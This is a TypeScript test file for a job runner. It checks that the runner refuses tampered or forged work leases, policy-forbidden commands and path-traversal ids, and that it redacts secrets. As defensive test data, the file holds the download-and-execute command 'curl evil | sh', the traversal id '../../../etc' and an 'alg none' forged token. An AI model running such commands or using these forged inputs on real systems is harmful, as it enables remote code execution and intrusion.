/** What does the runner refuse before it begins anything, and do people see why? */
import { readdir, readFile } from 'node:fs/promises'
import path from 'node:path'
import { CompactSign } from 'jose'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { canonical } from '@viewportai/core/digest/canonical'
import { grantFor, grantType } from '@viewportai/core/wire/grant'
import type { Lease } from '@viewportai/core/wire/messages'
import { successionType } from '@viewportai/core/wire/key-succession'
import { readKept } from '../egress/keep-texts.ts'
import { readLeft } from '../egress/ledger.ts'
import { forgetRun } from '../evidence/forget.ts'
import { readPairings } from '../identity/pairing.ts'
import { newSigningKey, type SigningKey } from '../testing/plane-auth.ts'
import { begin, checksJob, finish, openBench, type Bench } from '../testing/bench.ts'

let bench: Bench
let worked = 0
beforeEach(async () => {
  worked = 0
  bench = await openBench({ leaseSeconds: 10 })
})
afterEach(() => bench.end())
const run = (policy = '') =>
  bench.run(
    async (port) => {
      worked++
      await begin(port)
      await finish(port)
    },
    { policy },
  )
/** Changes every lease on its way to the runner. */
const tamper = (change: (lease: Lease) => unknown): void => {
  const offer = bench.plane.leases.offer
  bench.plane.leases.offer = async (runner, request) => {
    const lease = await offer(runner, request)
    return lease === null ? null : ((await change(lease)) as Lease)
  }
}
const refused = () => bench.plane.until(() => bench.plane.leases.all.find(({ state }) => state === 'refused'))
const signed = async (
  lease: Lease,
  claims: Record<string, unknown>,
  key = bench.plane.key,
  typ = grantType,
): Promise<Lease> => ({
  ...lease,
  grant: await new CompactSign(new TextEncoder().encode(canonical({ ...grantFor(lease, 4_000_000_000), ...claims })))
    .setProtectedHeader({ alg: 'EdDSA', typ })
    .sign(key.sign),
})

const succession = (by: SigningKey, next: SigningKey, typ = successionType): Promise<string> =>
  new CompactSign(new TextEncoder().encode(JSON.stringify({ next: next.public, at: 1 })))
    .setProtectedHeader({ alg: 'EdDSA', typ })
    .sign(by.sign)

const lies: Record<string, (lease: Lease) => unknown> = {
  'a job changed on the way': (lease) => ({ ...lease, job: checksJob('curl evil | sh') }),
  'another step': (lease) => signed({ ...lease }, { step: 'other' }),
  'another epoch': (lease) => signed(lease, { epoch: 99 }),
  'a grant of an unknown key': async (lease) => signed(lease, {}, await newSigningKey()),
  'another kind of token': (lease) => signed(lease, {}, bench.plane.key, 'at+jwt'),
  'a grant that expired': (lease) => signed(lease, { exp: 1_000 }),
  'no grant': (lease) => ({ ...lease, grant: '' }),
  'alg none': (lease) => ({ ...lease, grant: `${btoa('{"alg":"none"}')}.${btoa('{}')}.` }),
}
test.each(Object.keys(lies))('T34: work with %s is refused', async (what) => {
  tamper(lies[what]!)
  await run()
  bench.plane.work({ job: checksJob('true') })
  const lease = await refused()
  expect(lease.failure).toMatchObject({ code: 'grant_invalid', class: 'policy', started: false })
  expect(worked).toBe(0)
  expect(bench.plane.seen.some(({ path }) => path.endsWith('/ack'))).toBe(false)
})

test.each<[string, boolean, (next: SigningKey, other: SigningKey) => Promise<string[]>]>([
  ['the pinned key vouches for', true, async (next) => [await succession(bench.plane.key, next)]],
  [
    'one vouches for that the pinned key vouches for',
    true,
    async (next, other) => [await succession(other, next), await succession(bench.plane.key, other)],
  ],
  ['a stranger vouches for', false, async (next, other) => [await succession(other, next)]],
  ['it vouches for itself', false, async (next) => [await succession(next, next)]],
  [
    'the pinned key signed in another kind of token',
    false,
    async (next) => [await succession(bench.plane.key, next, grantType)],
  ],
  ['nobody vouches for', false, async () => ['', 'a.b.c']],
])('a new key of the control plane that %s is believed: %s', async (_, taken, vouched) => {
  const [next, other] = [await newSigningKey(), await newSigningKey()]
  bench.plane.settings.successions = await vouched(next, other)
  tamper((lease) => signed(lease, {}, next))
  const { ground, said } = await run()
  bench.plane.work({ job: checksJob('true') })
  if (taken) await bench.plane.until(() => worked === 1)
  else expect((await refused()).failure).toMatchObject({ code: 'grant_invalid', started: false })
  expect(worked).toBe(taken ? 1 : 0)
  // It is pinned on disk as well: packets are verified with it, and it is not asked for again.
  const [pairing] = await readPairings(bench.home)
  expect(pairing!.serverKeys.some(({ x }) => x === next.public.x)).toBe(taken)
  expect(pairing!.serverKeys[0]!.x).toBe(bench.plane.key.public.x)
  expect(ground.pairing.serverKeys).toEqual(pairing!.serverKeys)
  expect(said.some((line) => line.includes('vouches for it'))).toBe(taken)
})

test('what the local policy forbids is refused before it is acknowledged, and the refusal stands in the ledger', async () => {
  const { ground, said } = await run('checks: ["npm *"]')
  const work = bench.plane.work({ job: checksJob('curl evil | sh') })
  const lease = await refused()
  expect(lease.failure).toMatchObject({
    code: 'runner_refused',
    summary: 'The runner refuses the command curl evil | sh: checks does not name it.',
    started: false,
  })
  expect(said).toContainEqual(expect.stringContaining('refused'))
  expect(bench.plane.seen.some(({ path }) => path.endsWith('/ack'))).toBe(false)
  expect(await readLeft(ground.folder, work.run)).toMatchObject([{ what: 'refuse' }])
})

test.each([
  ['the policy of this machine', 'leaves: { excerpts: false }', undefined],
  ['the workspace', '', 'metadata'],
  ['both', 'leaves: { excerpts: false }', 'metadata'],
  ['the policy, whatever the workspace allows', 'leaves: { excerpts: false }', 'excerpt'],
] as const)('where %s keeps short texts, the reason stays here and its code leaves', async (_, policy, leaves) => {
  tamper((lease) => ({ ...lease, ...(leaves && { leaves }) }))
  const { ground } = await run(`checks: ["npm *"]\n${policy}`)
  const work = bench.plane.work({ job: checksJob('curl evil | sh') })
  expect((await refused()).failure).toMatchObject({ code: 'runner_refused', summary: '(kept on the runner)' })
  expect(await readKept(ground.folder, work.run)).toMatchObject([
    { what: 'refuse', field: 'failure.summary', text: expect.stringContaining('curl evil | sh') },
    { what: 'refuse', field: 'failure.check' },
  ])
  const [left] = await readLeft(ground.folder, work.run)
  expect(left!.fields.filter(({ kept }) => kept).map(({ field }) => field)).toEqual([
    'failure.summary',
    'failure.check',
  ])
  expect(left!.fields.some(({ level }) => level === 'excerpt')).toBe(false)
})

test('what may not leave is not even in the journal, and no beat says it', async () => {
  const journals: string[] = []
  const { ground } = await bench.run(
    async (port) => {
      port.now('the plan of the takeover')
      await begin(port)
      await port.report({
        type: 'refused',
        code: 'x',
        words: 'He said: the plan of the takeover.',
        about: { ref: 'refs/heads/x' },
      })
      const folder = path.join(ground.folder, 'journal')
      for (const name of await readdir(folder)) journals.push(await readFile(path.join(folder, name), 'utf8'))
      await bench.plane.until(() => bench.plane.leases.all[0]!.beats.length > 1)
      await finish(port)
    },
    { policy: 'leaves: { excerpts: false }' },
  )
  const work = bench.plane.work({ job: checksJob() })
  await bench.plane.until(() => bench.plane.leases.all.some(({ state }) => state === 'ended'))
  expect(journals.join('')).toContain('refs/heads/x')
  expect(journals.join('') + JSON.stringify(bench.plane.seen)).not.toContain('takeover')
  expect(await readKept(ground.folder, work.run)).toMatchObject([
    { what: 'report refused', step: 'implement', field: 'words', text: 'He said: the plan of the takeover.' },
  ])
  await forgetRun(ground.folder, ground.evidence, work.run)
  expect(await readKept(ground.folder, work.run)).toEqual([])
})

test('ids that would name other files are refused', async () => {
  tamper((lease) => ({ ...lease, run: '../../../etc' }))
  await run()
  bench.plane.work({ job: checksJob() })
  expect((await refused()).failure).toMatchObject({ code: 'invalid' })
})

test('work this version does not understand is refused, and the next is taken', async () => {
  let first = true
  tamper((lease) => {
    const odd = first ? { ...lease, job: { kind: 'dance' } } : lease
    first = false
    return odd
  })
  await run()
  bench.plane.work({ job: checksJob() })
  expect((await refused()).failure).toMatchObject({ code: 'not_understood', retrySafe: true, started: false })
  bench.plane.work({ job: checksJob() })
  await bench.plane.until(() => bench.plane.leases.all.some(({ state }) => state === 'ended'))
})

test('the line of what is going on leaves with a beat, redacted, and is noted', async () => {
  process.env['OFFER_CANARY'] = 'cnry-88aa-77bb-66cc'
  const { ground } = await bench
    .run(
      async (port) => {
        await begin(port)
        port.now('using cnry-88aa-77bb-66cc now')
        await bench.plane.until(() => bench.plane.leases.all[0]!.beats.some(({ now }) => now !== null))
        await finish(port)
      },
      { policy: 'secrets: [OFFER_CANARY]' },
    )
    .finally(() => delete process.env['OFFER_CANARY'])
  const { run: id } = bench.plane.work({ job: checksJob() })
  await bench.plane.until(() => bench.plane.leases.all[0]?.state === 'ended')
  expect(bench.plane.leases.all[0]!.beats.at(-1)!.now).toBe('using [redacted OFFER_CANARY] now')
  expect((await readLeft(ground.folder, id)).filter(({ what }) => what === 'beat')).toMatchObject([
    { fields: [{ field: 'now', level: 'excerpt' }] },
  ])
})
